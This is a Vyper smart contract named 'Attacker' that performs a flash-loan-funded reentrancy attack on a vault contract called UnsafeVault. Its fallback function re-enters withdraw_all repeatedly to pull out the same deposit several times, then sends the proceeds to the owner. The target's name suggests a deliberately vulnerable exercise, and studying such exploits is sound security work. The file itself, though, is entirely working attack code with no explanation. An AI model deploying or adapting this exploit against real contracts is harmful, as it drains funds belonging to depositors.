# pragma version 0.4.3
"""
@title Attacker
@notice Borrows for one call, deposits, and takes the deposit out of an UnsafeVault many times over.
"""

interface Lender:
    def flash_loan(amount: uint256): nonpayable

interface Vault:
    def deposit(): payable
    def withdraw_all(): nonpayable

owner: address
lender: address
vault: address
rounds: uint256


@deploy
def __init__(lender: address, vault: address):
    self.owner = msg.sender
    self.lender = lender
    self.vault = vault


@external
def attack(loan: uint256, rounds: uint256):
    assert msg.sender == self.owner
    self.rounds = rounds
    extcall Lender(self.lender).flash_loan(loan)
    raw_call(self.owner, b"", value=self.balance)


@external
@payable
def on_flash_loan(amount: uint256, fee: uint256):
    assert msg.sender == self.lender
    extcall Vault(self.vault).deposit(value=amount)
    extcall Vault(self.vault).withdraw_all()
    raw_call(self.lender, b"", value=amount + fee)


@external
@payable
def __default__():
    if msg.sender == self.vault and self.rounds > 1:
        self.rounds -= 1
        extcall Vault(self.vault).withdraw_all()
